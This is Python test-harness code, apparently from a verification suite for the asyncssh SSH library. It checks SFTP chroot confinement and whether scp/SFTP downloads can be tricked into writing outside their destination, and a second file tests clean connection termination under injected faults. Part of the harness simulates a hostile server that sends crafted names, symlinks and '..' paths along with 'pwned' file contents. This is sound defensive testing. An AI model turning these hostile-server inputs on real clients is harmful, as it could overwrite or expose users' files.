def _below_root(path, root):
    """Components of an accessed path below the root (None if elsewhere)"""

    try:
        p = os.fsdecode(path)
        r = os.fsdecode(root)
    except (TypeError, ValueError):
        return None

    if not p.startswith(r.rstrip('/') + '/'):
        return None

    return _norm(p[len(r):])


def make_tree(base, empty_root=False):
    root = os.path.join(base, 'root')
    out = os.path.join(base, 'outside')
    os.makedirs(os.path.join(out, 'dir'))

    if empty_root:
        os.makedirs(root)
    else:
        os.makedirs(os.path.join(root, 'a'))
        os.makedirs(os.path.join(root, 'sub', 'deep'))

    for p, data in ([] if empty_root else
                    [(os.path.join(root, 'f.txt'), b'root file\n'),
                     (os.path.join(root, 'a', 'f.txt'), b'a file\n')]) + \
                   [(os.path.join(out, 'secret.txt'), b'secret\n'),
                    (os.path.join(out, 'dir', 'f.txt'), b'outside file\n'),
                    (os.path.join(base, 'f.txt'), b'sibling\n')]:
        with open(p, 'wb') as f:
            f.write(data)

    return root, out


def subst(s, root, out):
    return s.replace('@ROOT@', root).replace('@OUT@', out).encode('latin-1')


def run_server(world, plan, base):
    sim = world.sim
    root, out = make_tree(base, plan.get('empty_root', False))
    before = fsaudit.snapshot(base)
    res = {'statuses': [], 'error': None}
    ver = plan['version']

    def path_arg(p):
        return string(subst(p, root, out))

    def attrs():
        if ver == 3:
            return attrs_v3()

        return u32(0) + bytes([1])           # flags=0, type=regular

    async def main():
        acc = await asyncssh.listen(
            '127.0.0.1', 22, server_factory=lambda: RecServer(world),
            sftp_factory=lambda chan: asyncssh.SFTPServer(
                chan, chroot=root.encode()),
            sftp_version=ver, **server_opts(encoding=None))
        conn = await asyncssh.connect('127.0.0.1', 22, **client_opts())
        w, r, _ = await conn.open_session(subsystem='sftp', encoding=None)
        raw = RawSftp(w, r)

        try:
            await raw.init(ver)
            # record from here on: connection set-up (the client half of this
            # process probing its own defaults) is not the server's doing
            fsaudit.start(root, allow=[os.environ.get('HOME', '/nonexistent'),
                                       '/etc/ssh'])

            for op in plan['ops']:
                k = op[0]
                p1 = path_arg(op[1])

                if '..' in op[1]:
                    sim.probes['dotdot_path'] += 1

                if '@' in op[1]:
                    sim.probes['abs_path'] += 1

                if k in ('open_w', 'open_r'):
                    if ver >= 5:
                        body = p1 + u32(0x116 if k == 'open_w' else 0x81) + \
                            u32(3 if k == 'open_w' else 2) + attrs()
                    else:
                        flags = (W.FXF_WRITE | W.FXF_CREAT | W.FXF_TRUNC) \
                            if k == 'open_w' else W.FXF_READ
                        body = p1 + u32(flags) + attrs()

                    _, p = await raw.request(W.OPEN, body)

                    if p[0] == W.HANDLE:
                        h = Reader(p, 5).string()

                        if k == 'open_w':
                            await raw.request(W.WRITE, string(h) + u64(0) +
                                              string(b'written by client\n'))
                        else:
                            await raw.request(W.READ, string(h) + u64(0) +
                                              u32(100))

                        await raw.request(W.CLOSE, string(h))
                elif k == 'stat':
                    _, p = await raw.request(
                        W.STAT, p1 + (u32(0) if ver >= 4 else b''))
                elif k == 'lstat':
                    _, p = await raw.request(
                        W.LSTAT, p1 + (u32(0) if ver >= 4 else b''))
                elif k == 'setstat':
                    a = (u32(4) + u32(0o600)) if ver == 3 else \
                        (u32(4) + bytes([1]) + u32(0o600))
                    _, p = await raw.request(W.SETSTAT, p1 + a)
                elif k == 'listdir':
                    _, p = await raw.request(W.OPENDIR, p1)

                    if p[0] == W.HANDLE:
                        h = Reader(p, 5).string()
                        await raw.request(W.READDIR, string(h))
                        await raw.request(W.CLOSE, string(h))
                elif k == 'remove':
                    _, p = await raw.request(W.REMOVE, p1)
                elif k == 'mkdir':
                    _, p = await raw.request(W.MKDIR, p1 + attrs())
                elif k == 'rmdir':
                    _, p = await raw.request(W.RMDIR, p1)
                elif k == 'realpath':
                    _, p = await raw.request(W.REALPATH, p1)
                elif k == 'rename':
                    _, p = await raw.request(
                        W.RENAME, p1 + path_arg(op[2]) +
                        (u32(0) if ver >= 5 else b''))

                    if p[0] == W.STATUS and Reader(p, 5).u32() == 0:
                        sim.probes['rename_done'] += 1
                elif k == 'posix_rename':
                    _, p = await raw.request(
                        W.EXTENDED, string(b'posix-rename@openssh.com') +
                        p1 + path_arg(op[2]))
                elif k == 'readlink':
                    _, p = await raw.request(W.READLINK, p1)
                elif k == 'symlink':
                    # op = [symlink, linkpath, target] (draft order, which
                    # asyncssh expects from a client that is not OpenSSH)
                    if ver >= 6:
                        # LINK: new-link-path, existing-path, symlink flag
                        _, p = await raw.request(
                            W.LINK, p1 + path_arg(op[2]) + bytes([1]))
                    else:
                        _, p = await raw.request(W.SYMLINK,
                                                 p1 + path_arg(op[2]))

                    if p[0] == W.STATUS and Reader(p, 5).u32() == 0:
                        sim.probes['symlink_created'] += 1
                elif k == 'link':
                    _, p = await raw.request(
                        W.EXTENDED, string(b'hardlink@openssh.com') + p1 +
                        path_arg(op[2]))
                else:
                    _, p = await raw.request(
                        W.EXTENDED, string(b'statvfs@openssh.com') + p1)

                if p[0] == W.STATUS:
                    code = Reader(p, 5).u32()
                    res['statuses'].append(code)

                    if code:
                        sim.probes['op_error_status'] += 1
        except (asyncssh.Error, OSError, Short, EOFError) as exc:
            res['error'] = exc
        except Exception as exc: # pylint: disable=broad-except
            res['error'] = exc

        await world.gate('done')
        conn.close()
        await conn.wait_closed()
        acc.close()
        await acc.wait_closed()

    # the server process's working directory is a place next to the root:
    # a path the server forgets to anchor inside the root shows up there
    cwd = os.getcwd()
    os.chdir(base)

    try:
        world.start(main())
        world.run_phase()
    finally:
        # (stop recording first: going back is the harness's own doing)
        recs = fsaudit.stop()
        os.chdir(cwd)

    after = fsaudit.snapshot(base)
    bad = [r for r in recs if not r[3]]

    if bad:
        op, p, real, _ = bad[0]
        world.violation(
            'outside-root-access',
            'chrooted SFTP server touched %r (resolves to %r) via %s; '
            'request sequence %r' %
            (p.decode('latin-1'), real.decode('latin-1').replace(
                base, '<base>'), op, plan['ops']),
            sig=history_sig(plan['ops'], op, _below_root(p, root)))

    sim.probes['outside_sentinels_checked'] += 1

    for rel in sorted(set(before) | set(after)):
        if rel == 'root' or rel.startswith('root' + os.sep):
            continue

        if before.get(rel) != after.get(rel):
            world.violation(
                'outside-root-modified',
                '%r next to the root changed from %r to %r; request '
                'sequence %r' % (rel, before.get(rel), after.get(rel),
                                 plan['ops']),
                sig=history_sig(plan['ops'], 'modified'))
            break

    if not os.path.isdir(root):
        world.violation(
            'outside-root-modified', 'the root directory itself is gone: its '
            'entry was removed from the directory above it; request sequence '
            '%r' % (plan['ops'],),
            # (through a link that was moved to where it points outside the
            # root, a rename can carry the root itself away)
            sig=history_sig(plan['ops'], 'root-removed'))

    if plan.get('empty_root'):
        sim.probes['root_empty'] += 1

    world.open_gate('done')
    world.run_phase()
    return {'ops': plan['ops'], 'version': ver, 'statuses': res['statuses'],
            'fs_events': len(recs)}


def run_download(world, plan, base):
    sim = world.sim
    dest = os.path.join(base, 'dest')
    out = os.path.join(base, 'outside')
    os.makedirs(dest)
    os.makedirs(os.path.join(out, 'dir'))

    # the destination the caller names is dest/got: its parent and its
    # sibling must stay as they are
    got = os.path.join(dest, 'got')

    if plan.get('glob'):
        # several matches need an existing directory to be copied into
        os.makedirs(got)

    with open(os.path.join(dest, 'keep.txt'), 'wb') as f:
        f.write(b'keep\n')

    with open(os.path.join(out, 'secret.txt'), 'wb') as f:
        f.write(b'secret\n')

    before = fsaudit.snapshot(base)
    res = {'exc': None, 'rejected': 0}
    fs = MemFS()

    def nm(s):
        return s.replace('@ROOT@', dest).replace('@OUT@', out)

    top = [[nm(n), k] for n, k in plan['listing']]
    sub = [[nm(n), k] for n, k in plan['sub']]
    listings = {'/src': top}
    kinds = {}
    links = {}

    for n, k in top:
        full = '/src/' + n if not n.startswith('/') else n
        kinds[full] = k

        if k == 'd':
            this = sub

            if plan.get('sub_flip') and len(listings) > 1:
                this = [[n2, {'l': 'f', 'f': 'l', 'd': 'f'}[k2]]
                        for n2, k2 in sub]

            listings[full] = this

            for n2, k2 in this:
                kinds[full + '/' + n2] = k2

                if k2 == 'l':
                    links[full + '/' + n2] = nm(plan['link_target'])

        if k == 'l':
            links[full] = nm(plan['link_target'])

    policy = {'hostile_tree': True, 'listings': listings, 'kinds': kinds,
              'links': links}

    class StubSession(asyncssh.SSHServerSession):
        def connection_made(self, chan):
            self.stub = StubSftpServer(sim, fs, policy)
            self.stub.writer = chan

        def subsystem_requested(self, subsystem):
            return subsystem == 'sftp'

        def data_received(self, data, datatype):
            self.stub.feed(data)

    class Srv(RecServer):
        def session_requested(self):
            return StubSession()

    async def scp_source(process):
        """Hostile `scp -f` source"""

        stdin, stdout = process.stdin, process.stdout

        async def ack():
            b = await stdin.read(1)
            return b == b'\0'

        try:
            if not await ack():
                return

            async def send_entries(entries, depth):
                for n, k in entries:
                    nb = n.encode('latin-1')

                    if k == 'd' and depth == 0:
                        stdout.write(b'D0755 0 ' + nb + b'\n')

                        if not await ack():
                            res['rejected'] += 1
                            return False

                        if not await send_entries(sub, 1):
                            return False

                        stdout.write(b'E\n')

                        if not await ack():
                            return False
                    else:
                        stdout.write(b'C0644 5 ' + nb + b'\n')

                        if not await ack():
                            res['rejected'] += 1
                            return False

                        stdout.write(b'pwned\0')

                        if not await ack():
                            return False

                return True

            stdout.write(b'D0755 0 src\n')

            if await ack():
                await send_entries(top, 0)
                stdout.write(b'E\n')
                await ack()
        except Exception: # pylint: disable=broad-except
            pass

        process.exit(0)

    async def main():
        if plan['pop'] == 'get':
            acc = await asyncssh.listen('127.0.0.1', 22,
                                        server_factory=lambda: Srv(world),
                                        **server_opts(encoding=None))
        else:
            acc = await asyncssh.listen(
                '127.0.0.1', 22, server_factory=lambda: RecServer(world),
                process_factory=scp_source, **server_opts(encoding=None))

        conn = await asyncssh.connect('127.0.0.1', 22, **client_opts())

        try:
            if plan['pop'] == 'get':
                sftp = await conn.start_sftp_client()
                fsaudit.start(got, allow=[os.environ.get('HOME', '/none'),
                                          '/etc/ssh'])
                if plan.get('glob'):
                    # names come from a pattern match over the hostile
                    # listing instead of a walk from one named directory
                    sim.probes['get_by_pattern'] += 1
                    await sftp.mget(plan['glob'], got, recurse=True,
                                    preserve=plan['preserve'],
                                    error_handler=lambda exc: None)
                else:
                    await sftp.get('/src', got,
                                   recurse=True, preserve=plan['preserve'],
                                   error_handler=lambda exc: None)
            else:
                fsaudit.start(got, allow=[os.environ.get('HOME', '/none'),
                                          '/etc/ssh'])
                await asyncssh.scp((conn, 'src'), got,
                                   recurse=True, preserve=plan['preserve'],
                                   error_handler=lambda exc: None)
        except Exception as exc: # pylint: disable=broad-except
            res['exc'] = exc

        await world.gate('done')
        conn.close()
        await conn.wait_closed()
        acc.close()
        await acc.wait_closed()

    try:
        world.start(main())
        world.run_phase()
    finally:
        recs = fsaudit.stop()

    after = fsaudit.snapshot(base)
    dest_rel = os.path.join('dest', 'got')

    for rel in sorted(set(before) | set(after)):
        if rel == dest_rel or rel.startswith(dest_rel + os.sep):
            continue

        if before.get(rel) != after.get(rel):
            world.violation(
                'download-escaped',
                '%s created/changed %r outside the destination (was %r, now '
                '%r); hostile entries %r / %r, link target %r' %
                (plan['pop'], rel, before.get(rel), after.get(rel),
                 plan['listing'], plan['sub'], plan['link_target']),
                sig=plan['pop'])
            break

    # writes recorded outside the destination (covers absolute escapes that
    # failed for lack of permission as well)
    wr = [r for r in recs if not r[3] and
          r[0] in ('os.mkdir', 'os.symlink', 'os.rename', 'os.remove',
                   'os.truncate', 'os.link')]

    if wr and not world.violations:
        op, p, real, _ = wr[0]
        world.violation(
            'download-escaped', '%s attempted %s on %r outside the '
            'destination; hostile entries %r' %
            (plan['pop'], op, real.decode('latin-1').replace(base, '<base>'),
             plan['listing']), sig=plan['pop'])

    if res['rejected']:
        sim.probes['hostile_name_rejected'] += 1

    world.open_gate('done')
    world.run_phase()
    return {'pop': plan['pop'], 'listing': plan['listing'],
            'sub': plan['sub'], 'link_target': plan['link_target'],
            'error': repr(res['exc'])[:100]}


def _own_names():
    names = set(COMPONENTS) | {'abs_evil', 'got', 'ok', 'dir1', 'src',
                               'nowhere', 'secret.txt', 'outside'}
    return {n.encode('latin-1') for n in names if n not in ('', '.', '..')}


def run_plan(plan, sched_seed=None, sched_replay=None):
    world = World(plan, sched_seed, sched_replay)
    base = new_dir()
    world.sim.probes['pop_' + plan['pop']] += 1
    slash_before = set(os.listdir(b'/'))

    try:
        if plan['pop'] == 'server':
            sample = run_server(world, plan, base)
        else:
            sample = run_download(world, plan, base)

        world.check_loop_health(allow_hang=True, loop_errors=False)
        return world.result(nontrivial=True, sample=sample)
    finally:
        fsaudit.stop()
        world.close()
        shutil.rmtree(base, ignore_errors=True)

        # safety net: a broken confinement may have dropped entries into
        # the real filesystem root; remove only what this run created
        for n in set(os.listdir(b'/')) - slash_before:
            if n in _own_names():
                p = os.path.join(b'/', n)

                try:
                    if os.path.isdir(p) and not os.path.islink(p):
                        shutil.rmtree(p)
                    else:
                        os.remove(p)
                except OSError:
                    pass
