"""C09 -- everything terminates: no hung waiter, one orderly close."""

import asyncio
import os
import shutil
import tempfile

import asyncssh

from simkit.net import CutWire
from simkit.world import World, RecClient, RecServer, client_opts, \
    server_opts

ID = 'C09'
NAME = 'termination'
QUICK_S = 40
THOROUGH_S = 900
CHUNK = 30

RULE = ('Each run: up to 4 concurrent channel drivers on the client '
        '(callback session, direct-tcpip, process API, SFTP client, a second '
        'SSH connection tunnelled through the first to an inner server with '
        'a process on it) and the '
        'matching server-side scripts issue seeded programs of '
        '{open, write, drain, read, eof, close, abort, wait_closed, exit, '
        'remote-forward request, sftp requests}; one fault per run: reset or '
        'EOF of the TCP connection (or of the tunnel\'s inner leg) after a '
        'drawn packet/byte of either '
        'direction (any point from the version exchange on), a permanent '
        'stall with keepalive enabled, a DISCONNECT/close/abort issued by '
        'either side at a drawn moment, cancellation of a caller task, or a '
        'callback of one of the application\'s sessions raising. '
        'Drawn as well: a server session that ends itself from '
        'connection_made() (exit status / close right behind the open '
        'confirmation) and an asynchronous begin_auth() that takes a drawn '
        'number of events. No connection may end with an exception that is '
        'neither an asyncssh.Error nor an OSError (the application\'s own '
        'excepted). At the quiescent point no drain() may wait on a channel '
        'whose peer\'s CLOSE is in the packet log, and every abort() on a '
        'live connection must have put a CLOSE on the wire. '
        'At quiescence every tracked await must be done once the connection '
        'is gone; callback logs must match the session/owner grammar; no '
        'channel, task, transport or listener may remain. Non-trivial = the '
        'fault fired or >= 1 channel opened; distinct = (plan, schedule, '
        'trace) signature.')

ASSUMPTIONS = [
    'simulated event loop admits exactly asyncio-legal executions',
    'conn._channels and asyncio.all_tasks() are read to detect residue',
    'a stall without keepalive may legitimately wait forever, so stalls are '
    'only generated with keepalive enabled on both sides',
]

REAL = ['asyncssh connection/channel/session/stream/process/sftp code of '
        'both endpoints', 'real files in a sandbox directory for SFTP']
STUB = ['event loop + clock', 'TCP sockets/listener', 'DNS', 'executor',
        'OS randomness']
PROBES = ['fault_rst', 'fault_eof', 'fault_stall', 'cut_before_auth',
          'cut_with_channels', 'cancelled_task',
          'op_error', 'sftp_started', 'teardown_server_side',
          'tunnel_opened', 'tunnel_by_name', 'cut_inner_leg',
          'connect_cancelled', 'reading_paused', 'session_over_at_once',
          'slow_begin_auth', 'fault_app_exception']

_sandbox = [None]


def sandbox():
    """Per-process read-mostly directory served over SFTP"""

    if _sandbox[0] is None:
        base = '/dev/shm' if os.path.isdir('/dev/shm') else None
        d = tempfile.mkdtemp(prefix='verif_c09_', dir=base)

        with open(os.path.join(d, 'a.txt'), 'wb') as f:
            f.write(b'hello world\n' * 300)

        os.mkdir(os.path.join(d, 'sub'))

        with open(os.path.join(d, 'sub', 'b.bin'), 'wb') as f:
            f.write(bytes(range(256)) * 400)

        # for tunnels given as a string: asyncssh makes the intermediate
        # connection itself, from configuration only
        from simkit.world import pubkey
        hk = pubkey('host_ed25519').export_public_key('openssh').decode()

        with open(os.path.join(d, 'known_hosts'), 'w') as f:
            f.write('127.0.0.1,inner,10.0.0.9 ' + hk)

        with open(os.path.join(d, 'ssh_config'), 'w') as f:
            f.write('Host *\n  User u\n  UserKnownHostsFile %s\n' %
                    os.path.join(d, 'known_hosts'))

        _sandbox[0] = d
        import atexit
        atexit.register(shutil.rmtree, d, True)

    return _sandbox[0]


# -- plan ------------------------------------------------------------------------------

CLIENT_KINDS = ['cb', 'cb', 'tcp', 'proc', 'proc', 'sftp', 'tunnel']


def gen_script(rng, kind, side):
    ops = []
    n = rng.weighted([(0, 1), (1, 2), (3, 3), (6, 2)])

    for _ in range(n):
        r = rng.below(100)

        if kind == 'sftp':
            ops.append([rng.choice(['stat', 'listdir', 'read', 'read',
                                    'write', 'par', 'y', 'y'])])
        elif r < 35:
            ops.append(['w', rng.choice([0, 1, 10, 1000, 40000])])
        elif r < 55:
            ops.append(['y'])
        elif r < 65:
            ops.append(['eof'])
        elif r < 73:
            ops.append(['close'])
        elif r < 78:
            ops.append(['abort'])

            if rng.chance(50):
                ops.append(['wait'])
        elif r < 81 and kind != 'sftp':
            # stop taking data: what arrives from now on stays buffered
            ops.append(['pause'])
        elif r < 88:
            ops.append(['wait'] if side == 'c' else
                       ['exit', rng.below(3)])
        elif r < 90 and side == 'c' and kind == 'cb':
            # an odd client: it asks for a shell on a channel whose session
            # is running already (only one such request can succeed)
            ops.append(['reshell'])
        elif kind == 'proc':
            ops.append([rng.choice(['drain', 'read', 'readline'])])
        else:
            ops.append(['y'])

    return ops


def gen_plan(rng):
    nch = rng.weighted([(0, 1), (1, 4), (2, 3), (3, 2), (4, 1)])
    chans = []

    for _ in range(nch):
        kind = rng.choice(CLIENT_KINDS)
        chans.append({
            'kind': kind,
            'req': rng.choice(['exec', 'exec', 'shell', 'pty-exec']),
            'c': gen_script(rng, 'proc' if kind == 'tunnel' else kind, 'c'),
            's': gen_script(rng, 'cb' if kind == 'tcp' else
                            'proc' if kind == 'tunnel' else kind, 's'),
            'start_delay': rng.choice([0, 0, 1, 3]),
            # tunnel drivers: through the existing connection, or let
            # asyncssh open (and own) the intermediate connection
            'via': rng.choice(['conn', 'conn', 'string', 'string2',
                               'string2x']),
            # the inner server may be unreachable (nobody listens there)
            'inner_up': not rng.chance(15),
        })

    fk = rng.weighted([('rst', 30), ('eof', 20), ('stall', 10),
                       ('api', 25), ('cancel', 8), ('none', 7),
                       ('app_exc', 6)])
    fault = {'kind': fk}

    if fk in ('rst', 'eof', 'stall'):
        fault.update({
            'dir': rng.choice(['c2s', 's2c']),
            # which TCP connection: 0 = client<->server, 1 = the first leg
            # a tunnel driver makes the server open towards the inner server
            'leg': rng.weighted([(0, 5), (1, 1)]),
            # writes 0..~8 are the handshake and auth, later ones channels
            'index': rng.weighted([(rng.below(10), 4),
                                   (rng.below(40), 4),
                                   (rng.below(200), 1)]),
            'off': rng.choice([0, 0, 1, 4, 5, 20, 100000]),
        })
    elif fk == 'api':
        fault.update({
            'side': rng.choice(['c', 's']),
            'what': rng.choice(['close', 'abort', 'disconnect']),
            'after': rng.below(12),
        })
    elif fk == 'app_exc':
        # a callback of one of the application's sessions raises: asyncssh
        # closes that connection; everything pending on it has to end
        fault.update({'side': rng.choice(['c', 's']),
                      'after': rng.below(4)})
    elif fk == 'cancel':
        # chan -1: the caller of connect() itself is cancelled (what a
        # connect timeout does), at any point of handshake and login
        fault.update({'chan': rng.weighted([(rng.below(max(1, nch)), 3),
                                            (-1, 1)]),
                      'after': rng.choice([rng.below(12), rng.below(60)])})

    srv_kinds = [rng.choice(['cb', 'proc']) for _ in range(3)]
    window = rng.choice([100, 4096, 2097152])

    if rng.chance(8):
        # both directions full, the writer waiting in drain(), then the
        # peer closes: in-flight state first, then the event that meets it
        a = [['w', rng.choice([40000, 100000])], ['drain']]
        b = [['w', rng.choice([40000, 100000])]] + \
            [['y']] * rng.below(4) + [[rng.choice(['close', 'abort'])]]
        first = rng.chance(50)
        chans.insert(0, {'kind': 'proc', 'req': 'exec',
                         'c': a if first else b, 's': b if first else a,
                         'start_delay': 0, 'via': 'conn', 'inner_up': True})
        srv_kinds = ['proc']
        window = rng.choice([100, 4096])
        fault = {'kind': 'none'}

    if rng.chance(6):
        # a command that is over at once: (output,) EOF and close right
        # behind the reply to the request that started it, with nothing
        # else going on -- the client's session is told all of it
        chans[:] = [{'kind': 'cb', 'req': 'exec', 'c': [],
                     's': ([['w', rng.choice([1, 50])]]
                           if rng.chance(50) else []) +
                     [['eof'], ['close']],
                     'start_delay': 0, 'via': 'conn', 'inner_up': True}]
        srv_kinds = ['cb'] + srv_kinds[1:]
        fault = {'kind': 'none'}

    if rng.chance(4):
        # the call that opens a session is cancelled while the server's
        # first words (EOF, data) are on their way; then the connection
        # is closed: a session that never started is told nothing but that
        chans[:] = [{'kind': 'cb', 'req': rng.choice(['exec', 'shell']),
                     'c': [], 's': rng.choice([[['eof']], [['w', 5], ['eof']],
                                               [['w', 5]]]),
                     'start_delay': 0, 'via': rng.choice(['conn', 'string']),
                     'inner_up': True}]
        srv_kinds = ['cb'] + srv_kinds[1:]
        fault = {'kind': 'cancel', 'chan': 0, 'after': rng.below(8)}

    if rng.chance(6):
        # SFTP requests in flight on one channel while the application's
        # callback on another channel of the same connection raises
        chans[:0] = [
            {'kind': 'sftp', 'req': 'exec',
             'c': [[rng.choice(['stat', 'read', 'listdir', 'par', 'write'])]
                   for _ in range(rng.between(2, 6))],
             's': [], 'start_delay': 0, 'via': 'conn', 'inner_up': True},
            {'kind': 'cb', 'req': 'exec', 'c': [['y']],
             's': [['w', rng.choice([1, 1000])], ['y'], ['w', 10]],
             'start_delay': rng.choice([0, 1, 3]), 'via': 'conn',
             'inner_up': True}]
        srv_kinds = ['proc', 'cb']
        fault = {'kind': 'app_exc', 'side': 'c', 'after': rng.below(3)}

    return {
        'drbg': rng.below(1 << 30),
        'profile': {
            'p_sched': rng.choice([0, 10, 30, 60, 90]),
            'p_chunk': rng.choice([10, 50, 90]),
            'latency_ms': rng.choice([0, 0, 1, 50, 2000]),
            'capacity': rng.choice([0, 0, 0, 4096]),
        },
        'srv_kinds': srv_kinds,
        'remote_fwd': rng.chance(20),
        'channels': chans,
        'fault': fault,
        'teardown': rng.choice(['client_close', 'server_close',
                                'client_abort', 'cut_rst', 'cut_eof',
                                'server_disconnect']),
        'window': window,
        # a server session that is over before it began: exit status and/or
        # close from connection_made(), i.e. right behind the confirmation
        'early': rng.choice([None, None, None,
                             {'nth': rng.below(3),
                              'how': rng.choice(['exit', 'close',
                                                 'exit_close', 'burst',
                                                 'msg_close'])}]),
        # begin_auth() is a coroutine that needs this many events (and then
        # says no authentication is needed)
        'begin_auth_delay': rng.choice([0, 0, 0, 2, 10, 40]),
    }


def valid_plan(plan):
    try:
        f = plan['fault']

        if f['kind'] in ('rst', 'eof', 'stall'):
            if f['dir'] not in ('c2s', 's2c'):
                return False

        if len(plan['srv_kinds']) < 1:
            return False

        for ch in plan['channels']:
            if ch['kind'] not in ('cb', 'tcp', 'proc', 'sftp', 'tunnel'):
                return False

            for op in ch['c'] + ch['s']:
                if op[0] == 'w' and not 0 <= op[1] <= 100000:
                    return False

        e = plan.get('early')

        if e is not None and (e['how'] not in ('exit', 'close', 'exit_close',
                                               'burst', 'msg_close')
                              or not 0 <= e['nth'] <= 8):
            return False

        if not 0 <= plan.get('begin_auth_delay', 0) <= 200:
            return False

        return plan['window'] >= 1
    except (KeyError, TypeError, IndexError):
        return False


# -- sessions ----------------------------------------------------------------------------

OK_ERRORS = (asyncssh.Error, OSError, asyncio.IncompleteReadError,
             BrokenPipeError, EOFError)


class Sess:
    """Callback session recording the callback grammar"""

    def __init__(self, run, name):
        self.run = run
        self.name = name
        self.chan = None
        self.log = []
        self.started = run.sim.loop.create_future()
        self.command = None
        run.sessions.append(self)

    def _ev(self, what):
        self.log.append(what)
        self.run.world.event(self.name, what)
        f = self.run.plan['fault']

        if f['kind'] == 'app_exc' and what in ('data', 'eof', 'started') \
                and self.name.startswith('S' if f['side'] == 's' else 'C'):
            self.run.app_cb += 1

            if self.run.app_cb == f['after'] + 1:
                # a bug in the application: its callback raises
                self.run.sim.stats['fault_app_exc'] += 1
                self.run.sim.probes['fault_app_exception'] += 1
                raise ValueError('application callback failed')

    def connection_made(self, chan):
        self.chan = chan
        self._ev('made')

        if self.name.startswith('C'):
            # a client session between the open of its channel and the
            # answer to the request that starts it
            self.run.opening[self.name] = chan

        early = self.run.plan.get('early')

        if early and self.name == 'S%d' % early['nth']:
            self.run.sim.probes['session_over_at_once'] += 1

            if early['how'] == 'burst':
                # many (legal) requests right behind the confirmation
                for i in range(1500):
                    chan.set_xon_xoff(bool(i % 2))

            if 'exit' in early['how']:
                chan.exit(3)

            if 'close' in early['how'] and early['how'] != 'msg_close':
                chan.close()

    def session_started(self):
        self._ev('started')
        self.run.opening.pop(self.name, None)

        if not self.started.done():
            self.started.set_result(True)

        if self.name.startswith('S'):
            self.run.start_server_script(self, self.command)

    def _refuse_with_message(self):
        early = self.run.plan.get('early')

        if early and early['how'] == 'msg_close' and \
                self.name == 'S%d' % early['nth']:
            # a word of explanation, then the channel is closed: the
            # client's request gets no reply any more
            self.chan.write(b'not today\n')
            self.chan.close()
            return True

        return False

    def shell_requested(self):
        return not self._refuse_with_message()

    def exec_requested(self, command):
        self.command = command
        return not self._refuse_with_message()

    def pty_requested(self, *args):
        return True

    def data_received(self, data, datatype):
        self._ev('data')

    def eof_received(self):
        self._ev('eof')
        return True

    def connection_lost(self, exc):
        self._ev('lost')
        self.run.opening.pop(self.name, None)

        if not self.started.done():
            self.started.set_result(False)

    def exit_status_received(self, status):
        self._ev('exit')

    def exit_signal_received(self, *args):
        self._ev('exit')

    def break_received(self, msec):
        return False

    def signal_received(self, signal):
        self._ev('signal')


class CSess(Sess, asyncssh.SSHClientSession):
    pass


class SSess(Sess, asyncssh.SSHServerSession):
    pass


class TSess(Sess, asyncssh.SSHTCPSession):
    pass


class OpsServer(RecServer):
    def __init__(self, world):
        run = world.run
        super().__init__(world, name='server' if not run.server_owners
                         else 'server-%d' % len(run.server_owners))
        self.run = run
        self.run.server_owners.append(self)

    def begin_auth(self, username):
        delay = self.run.plan.get('begin_auth_delay', 0)

        if not delay:
            return False

        async def later():
            self.run.sim.probes['slow_begin_auth'] += 1

            for _ in range(delay):
                await self.run.sim.pause('begin_auth')

            return False

        return later()

    def session_requested(self):
        run = self.run
        k = run.sess_count
        run.sess_count += 1
        kind = run.plan['srv_kinds'][k % len(run.plan['srv_kinds'])]

        if kind == 'proc':
            return asyncssh.SSHServerProcess(
                run.server_process, run.sftp_factory, 3, False)

        return SSess(run, 'S%d' % k)

    def connection_requested(self, dest_host, dest_port, orig_host,
                             orig_port):
        run = self.run

        if dest_port in (2222, 2223, 22):
            # a tunnelled SSH connection: relay for real (2223: nobody
            # listens; 22: a further hop through this same server)
            return True

        sess = TSess(run, 'St%d' % (dest_port - 1000))
        sess.command = str(dest_port - 1000)
        return sess

    def server_requested(self, listen_host, listen_port):
        return True


class InnerServer(OpsServer):
    """Owner of a connection that arrived through a tunnel"""

    def __init__(self, world):
        run = world.run
        RecServer.__init__(self, world,
                           name='server2-%d' % len(run.inner_owners))
        self.run = run
        run.inner_owners.append(self)


class Run:
    def __init__(self, world, plan):
        self.world = world
        world.run = self
        self.plan = plan
        self.sim = world.sim
        self.sessions = []
        self.server_owners = []
        self.clients = []
        self.inner_owners = []
        self.inner_clients = []
        self.inner_acceptor = None
        self.own_tunnels = []
        self.aborted = []
        self.abort_sent = []
        self.cur = {}
        self.opening = {}
        self.app_cb = 0
        self.sess_count = 0
        self.conn = None
        self.acceptor = None
        self.drivers = {}
        self.op_errors = 0
        self.nopened = 0
        self.fault_fired_at = None

    def sftp_factory(self, chan):
        return asyncssh.SFTPServer(chan, chroot=sandbox().encode())

    # -- generic op interpreter ---------------------------------------------------------

    async def do_ops(self, ops, chan, name, proc=None):
        sim = self.sim

        for op in ops:
            try:
                k = op[0]
                # what this script is waiting in, for the oracles that look
                # at a quiescent world
                self.cur[name] = (k, getattr(chan, '_conn', None),
                                  getattr(chan, '_recv_chan', None))

                if k == 'w':
                    if proc is not None:
                        (proc.stdin if hasattr(proc, 'stdin') and
                         name.startswith('c') else proc.stdout).write(
                             b'x' * op[1])
                    else:
                        chan.write(b'x' * op[1])
                elif k == 'eof':
                    if proc is not None:
                        (proc.stdin if name.startswith('c')
                         else proc.stdout).write_eof()
                    else:
                        chan.write_eof()
                elif k == 'close':
                    chan.close()
                elif k == 'abort':
                    num = getattr(chan, '_recv_chan', None)
                    owner_conn = getattr(chan, '_conn', None)
                    peer_num = getattr(chan, '_send_chan', None)
                    chan.abort()

                    if peer_num is not None and owner_conn is not None:
                        # (our side's CLOSE must go out now, whatever was
                        # called before: checked against the packet log)
                        self.abort_sent.append((name, owner_conn, peer_num))

                    # abort() discards both directions: once the peer's
                    # CLOSE is in, nothing is left to wait for
                    self.aborted.append(
                        (name, owner_conn, num,
                         sim.track('abortwait-' + name, chan.wait_closed())))
                elif k == 'pause':
                    chan.pause_reading()
                    sim.probes['reading_paused'] += 1
                elif k == 'reshell':
                    cconn, num = getattr(chan, '_conn', None), \
                        getattr(chan, '_send_chan', None)

                    if cconn is not None and num is not None:
                        from simkit.sshwire import u32, string, boolean
                        sim.probes['second_shell_request'] += 1
                        cconn.send_packet(98, u32(num), string(b'shell'),
                                          boolean(False))
                elif k == 'wait':
                    await chan.wait_closed()
                elif k == 'exit':
                    if hasattr(chan, 'exit'):
                        chan.exit(op[1])
                elif k == 'drain' and proc is not None:
                    await (proc.stdin if name.startswith('c')
                           else proc.stdout).drain()
                elif k == 'read' and proc is not None:
                    await (proc.stdout if name.startswith('c')
                           else proc.stdin).read(100)
                elif k == 'readline' and proc is not None:
